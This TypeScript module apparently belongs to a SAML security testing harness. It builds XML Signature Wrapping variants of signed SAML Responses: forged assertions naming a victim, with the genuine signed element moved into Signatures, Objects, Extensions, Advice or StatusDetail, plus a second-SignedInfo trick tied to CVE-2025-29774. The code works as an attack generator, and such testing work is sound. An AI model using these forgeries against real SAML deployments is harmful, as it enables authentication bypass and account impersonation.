/** Signature wrapping: the signed bytes stay as they are, only elsewhere; what is read in their place names the victim. */

// The eight shapes are those of «On Breaking SAML» (USENIX Security 2012) as SAML Raider numbers them.

import type { Facts, Mutation } from '../protocol/types.ts';
import { insertAt, replaceSpan, rootOf, setAttribute } from '../protocol/xml-text.ts';
import { child, first, outerOfFirst } from './elements.ts';
import { asVictim, behindIssuer, eachAssertion, forgedAssertion, signatureOf, withoutOwnSignature } from './victim.ts';

interface Parts {
  /** The whole message. */
  xml: string;
  /** The genuine signed element with and without its Signature, and that Signature. */
  signed: string;
  bare: string;
  signature: string;
}

function parts(xml: string, local: 'Response' | 'Assertion'): Parts {
  const signed = outerOfFirst(xml, local);
  return { xml, signed, bare: withoutOwnSignature(signed), signature: signatureOf(xml, local) };
}

/** Puts text inside the Signature as its last child. */
export function inside(signature: string, text: string): string {
  const root = rootOf(signature);
  if (!root) throw new Error('Expected a signed element to wrap, found no Signature: the case needs another placement');
  return insertAt(signature, root.closeStart, text);
}

function wrapResponse(build: (parts: Parts, forged: string) => string): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const plan = eachAssertion(asVictim(facts.plan, facts), (one) => ({ ...one, id: facts.newId() }));
      const forged = facts.issueHonest({ ...plan, id: facts.newId(), signing: {} });
      return build(parts(xml, 'Response'), forged);
    },
  };
}

/** Puts a text that is built of the genuine assertion in its place. */
export function wrapAssertion(build: (parts: Parts, facts: Facts) => string): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const genuine = parts(xml, 'Assertion');
      return replaceSpan(xml, first(xml, 'Assertion'), build(genuine, facts));
    },
  };
}

/** A ds:Object around text. */
export const inObject = (text: string): string => `<Object xmlns="http://www.w3.org/2000/09/xmldsig#">${text}</Object>`;

/** A forged Response carries the genuine Signature, and inside it the genuine Response. */
export const responseInSignature = (): Mutation =>
  wrapResponse(({ bare, signature }, forged) => behindIssuer(forged, inside(signature, bare)));

/** A forged Response holds the genuine Response and after it the detached Signature. */
export const responseBeforeSignature = (): Mutation =>
  wrapResponse(({ bare, signature }, forged) => behindIssuer(forged, bare + signature));

/** Puts text before the signed assertion. */
export const beforeAssertion = (text: (facts: Facts) => string): Mutation =>
  wrapAssertion(({ signed }, facts) => text(facts) + signed);

/** The forged assertion stands before the signed one. */
export const forgedBefore = (): Mutation =>
  wrapAssertion(({ signed }, facts) => forgedAssertion(facts, facts.newId()) + signed);

/** The forged assertion stands after the signed one. */
export const forgedAfter = (): Mutation =>
  wrapAssertion(({ signed }, facts) => signed + forgedAssertion(facts, facts.newId()));

/** The signed assertion is the last child of the forged one. */
export const genuineInForged = (): Mutation =>
  wrapAssertion(({ signed }, facts) => {
    const forged = forgedAssertion(facts, facts.newId());
    return insertAt(forged, first(forged, 'Assertion').closeStart, signed);
  });

/** The forged assertion keeps the Signature; the genuine one stands behind it without. */
export const signatureOnForged = (): Mutation =>
  wrapAssertion(({ bare, signature }, facts) => behindIssuer(forgedAssertion(facts, facts.newId()), signature) + bare);

/** The genuine assertion stands inside the Signature that the forged one carries. */
export const genuineInSignature = (): Mutation =>
  wrapAssertion(({ bare, signature }, facts) =>
    behindIssuer(forgedAssertion(facts, facts.newId()), inside(signature, bare)),
  );

/** The genuine assertion stands in a ds:Object of the Signature; both share one ID. */
export const genuineInObject = (): Mutation =>
  wrapAssertion(({ bare, signature }, facts) =>
    behindIssuer(forgedAssertion(facts, idOf(facts)), inside(signature, inObject(bare))),
  );

/** The same, but the forged assertion has an ID of its own. */
export const genuineInOwnObject = (): Mutation =>
  wrapAssertion(({ bare, signature }, facts) =>
    behindIssuer(forgedAssertion(facts, facts.newId()), inside(signature, inObject(bare))),
  );

/**
 * What is forged stands where the genuine Signature leaves room: what is in a Signature, no enveloped one covers.
 * `subject` puts the statements there alone, for readers who count assertions.
 */
export const forgedInSignature = (
  room: 'object' | 'key-info',
  what: 'assertion' | 'subject' = 'assertion',
): Mutation => ({
  afterSigning: (xml, facts) => {
    const whole = forgedAssertion(facts, facts.newId());
    const forged =
      what === 'assertion' ? whole : ['Subject', 'AttributeStatement'].map((name) => alone(whole, name)).join('');
    return room === 'object'
      ? insertAt(xml, first(xml, 'Signature').closeStart, inObject(forged))
      : insertAt(xml, first(xml, 'KeyInfo').closeStart, forged);
  },
});

/** The first element with this name, able to stand anywhere. */
function alone(xml: string, name: string): string {
  const text = outerOfFirst(xml, name);
  return setAttribute(text, first(text, name), 'xmlns', 'urn:oasis:names:tc:SAML:2.0:assertion');
}

/**
 * A second SignedInfo, which nobody signed, names the forged assertion with the right digest, and the genuine one is still
 * there for the first: all References hold (CVE-2025-29774).
 * @param place of the second SignedInfo: behind the genuine one, or before it in a ds:Object; `hidden` puts the genuine
 *   assertion into that Object as well, elsewhere it stands behind the forged one
 */
export const forgedInSecondSignedInfo = (place: 'behind' | 'object' | 'hidden'): Mutation =>
  wrapAssertion(({ bare, signature }, facts) => {
    const id = facts.newId();
    const twin = facts.issueHonest(eachAssertion(asVictim(facts.plan, facts), (one) => ({ ...one, id })));
    const own = outerOfFirst(twin, 'SignedInfo');
    const { start, end } = first(signature, 'SignedInfo');
    const held =
      place === 'behind'
        ? insertAt(signature, end, own)
        : insertAt(signature, start, inObject(place === 'hidden' ? own + bare : own));
    return behindIssuer(forgedAssertion(facts, id), held) + (place === 'hidden' ? '' : bare);
  });

/** Extensions hold the forged assertion, with the ID of the signed one, and come first. */
export const forgedInExtensions = (): Mutation => extensions((_genuine, forged) => [forged, null]);

/** Extensions hold the genuine signed assertion; the forged one, with its ID, stands where assertions stand. */
export const genuineInExtensions = (): Mutation => extensions((genuine, forged) => [genuine, forged]);

/** The genuine assertion stands in the Advice of the forged one. */
export const genuineInAdvice = (): Mutation =>
  wrapAssertion(({ signed }, facts) => {
    const forged = forgedAssertion(facts, facts.newId());
    return insertAt(forged, first(forged, 'Conditions').end, `<Advice>${signed}</Advice>`);
  });

/** StatusDetail holds the genuine assertion; the forged one stands in its place. */
export const genuineInStatusDetail = (): Mutation => ({
  afterSigning: (xml, facts) => {
    const genuine = outerOfFirst(xml, 'Assertion');
    return withStatusDetail(replaceSpan(xml, first(xml, 'Assertion'), forgedAssertion(facts, facts.newId())), genuine);
  },
});

/** A forged assertion with the ID of the signed one stands before it. */
export const sameIdBefore = (): Mutation =>
  wrapAssertion(({ signed }, facts) => forgedAssertion(facts, idOf(facts)) + signed);

/** The forged assertion before the signed one has an ID of its own, and a namespaced one that repeats the signed ID. */
export const namespacedId = (): Mutation =>
  wrapAssertion(({ signed }, facts) => {
    const forged = forgedAssertion(facts, facts.newId());
    const protocol = 'urn:oasis:names:tc:SAML:2.0:protocol';
    const declared = setAttribute(forged, first(forged, 'Assertion'), 'xmlns:p', protocol);
    return setAttribute(declared, first(declared, 'Assertion'), 'p:ID', idOf(facts) ?? '') + signed;
  });

/** Extensions hold a bare NameID of the victim; the signed assertion stays as it is. */
export const bareNameId = (): Mutation => ({
  afterSigning: (xml, facts) => {
    const forged = forgedAssertion(facts, undefined);
    return withExtensions(xml, alone(forged, 'NameID'));
  },
});

function prefixOf(xml: string): string {
  return first(xml, 'Response').name.slice(0, -'Response'.length);
}

/** Puts Extensions with this content before the Status. */
export function withExtensions(xml: string, content: string): string {
  const status = child(xml, first(xml, 'Response'), 'Status');
  if (!status) throw new Error('Expected a Status to put Extensions before, found none');
  const prefix = prefixOf(xml);
  return insertAt(xml, status.start, `<${prefix}Extensions>${content}</${prefix}Extensions>`);
}

/** Puts a StatusDetail with this content behind the StatusCode. */
export function withStatusDetail(xml: string, content: string): string {
  const prefix = prefixOf(xml);
  return insertAt(xml, first(xml, 'StatusCode').end, `<${prefix}StatusDetail>${content}</${prefix}StatusDetail>`);
}

function extensions(place: (genuine: string, forged: string) => [hidden: string, inPlace: string | null]): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const [hidden, inPlace] = place(outerOfFirst(xml, 'Assertion'), forgedAssertion(facts, idOf(facts)));
      const edited = inPlace === null ? xml : replaceSpan(xml, first(xml, 'Assertion'), inPlace);
      return withExtensions(edited, hidden);
    },
  };
}

function idOf(facts: Facts): string | undefined {
  return facts.plan.assertions[0]?.id;
}
